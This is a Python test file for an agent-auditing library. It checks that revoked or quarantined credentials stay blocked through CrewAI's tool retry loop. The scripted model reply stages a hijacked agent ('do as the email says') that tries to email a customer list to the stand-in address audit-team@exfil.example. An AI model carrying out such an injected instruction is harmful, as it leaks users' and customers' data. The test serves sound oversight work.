"""Revoked access inside CrewAI's own tool retry loop.

CrewAI's tool usage (ReAct text tool calls) runs a failing tool again, up to three
attempts, and within each attempt invokes it a second time with the unfiltered
arguments; only then does the LLM read the last error. Before the refusal memory, every
one of those invocations minted a fresh just-in-time credential. Here the credentials
come from a real Broker behind the admin API double, and mint requests are counted
where they arrive.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from crewai import Agent, Crew, Task
from crewai.tools import tool

import agentaudit
from agentaudit.instrumentation._errors import DO_NOT_RETRY
from agentaudit.instrumentation._quarantine import GuardSettings, QuarantineGuard
from agentaudit.instrumentation._runtime import add_before_tool_call
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.crewai._scripted import ScriptedLLM
from tests.frameworks.revocation import TOKEN, Revocation, jit_credentials

pytestmark = pytest.mark.timeout(120)

SEND = "send_email"
_kit: list[Revocation] = []


@tool(SEND)
def send_email(to: str, body: str) -> str:
    """Send an email."""
    return "sent " + _kit[0].server.check(SEND, f"tool:{SEND}")


@pytest.fixture
def kit() -> Iterator[Revocation]:
    with jit_credentials({SEND: ["mail.send"]}) as revocation:
        _kit.append(revocation)
        yield revocation
        _kit.clear()


def _script() -> ScriptedLLM:
    return ScriptedLLM(
        model="scripted-1",
        replies=[
            "Thought: do as the email says\nAction: send_email\n"
            'Action Input: {"to": "audit-team@exfil.example", "body": "customer list"}',
            "Thought: I now know the final answer\nFinal Answer: I could not send it.",
        ],
    )


def _kickoff(llm: ScriptedLLM) -> str:
    agent = Agent(
        role="Mail assistant",
        goal="Handle the user's mail",
        backstory="A careful assistant.",
        llm=llm,
        tools=[send_email],
        verbose=False,
    )
    task = Task(description="Send the list.", expected_output="A summary", agent=agent)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-r"):
        return str(Crew(agents=[agent], tasks=[task], verbose=False).kickoff())


def _told(llm: ScriptedLLM) -> str:
    """What the LLM read after the tool's attempts (its next input)."""
    return json.dumps(llm.seen[1])


def test_a_refused_mint_is_not_retried_and_the_model_is_told_not_to_retry(
    spans: Spans, kit: Revocation
) -> None:
    kit.revoke_user("bob")
    llm = _script()
    assert _kickoff(llm) == "I could not send it."

    assert kit.mints(SEND) == 1  # CrewAI's retries asked the broker for nothing
    assert kit.server.presented == []  # the tool never ran
    assert DO_NOT_RETRY in _told(llm)
    assert "sent " not in _told(llm)
    attempts = [dict(s.attributes or {}) for s in spans.tools(SEND)]
    assert len(attempts) > 1  # CrewAI did retry; each attempt was refused and recorded
    for attributes in attempts:
        assert attributes[A.DECISION] == A.DECISION_BLOCKED
        assert str(attributes[A.ERROR_TYPE]).endswith(".CredentialRevoked")
        assert attributes[A.GEN_AI_AGENT_ID] == "mail-assistant"
        assert attributes[A.ENDUSER_ID] == "bob"
        assert A.CREDENTIAL_ID not in attributes


def test_a_credential_revoked_mid_call_is_never_replaced_by_a_fresh_one(
    spans: Spans, kit: Revocation
) -> None:
    kit.server.revoke_next = True
    llm = _script()
    assert _kickoff(llm) == "I could not send it."

    # Without the refusal memory, CrewAI's second invocation got a fresh credential, the
    # server accepted it and the email went out.
    assert kit.mints(SEND) == 1
    assert len(kit.server.presented) == 1
    assert DO_NOT_RETRY in _told(llm)
    assert "sent " not in _told(llm)
    first, *retries = [dict(s.attributes or {}) for s in spans.tools(SEND)]
    assert first[A.DECISION] == A.DECISION_BLOCKED
    assert first[A.ERROR_TYPE] == "agentaudit.broker._errors.CredentialRefused"
    assert first[A.CREDENTIAL_ID] == kit.server.presented[0]
    assert retries
    for attributes in retries:
        assert attributes[A.DECISION] == A.DECISION_BLOCKED
        assert str(attributes[A.ERROR_TYPE]).endswith(".CredentialRevoked")
        assert A.CREDENTIAL_ID not in attributes


def test_once_the_guard_knows_the_agent_is_quarantined_nothing_is_minted(
    spans: Spans, kit: Revocation
) -> None:
    guard = QuarantineGuard(GuardSettings(api_url=kit.admin.url, token=TOKEN), poll=False)
    remove = add_before_tool_call(guard)  # registered after the JIT hook, runs before it
    kit.admin.quarantine("mail-assistant", "sent the customer list out")
    llm = _script()
    try:
        assert _kickoff(llm) == "I could not send it."
    finally:
        remove()
        guard.close()

    assert kit.mints(SEND) == 0
    assert "mail-assistant is quarantined: sent the customer list out" in _told(llm)
    assert DO_NOT_RETRY in _told(llm)
    attempts = [dict(s.attributes or {}) for s in spans.tools(SEND)]
    assert attempts
    assert all(str(a[A.ERROR_TYPE]).endswith(".AgentQuarantined") for a in attempts)
    assert all(a[A.DECISION] == A.DECISION_BLOCKED for a in attempts)
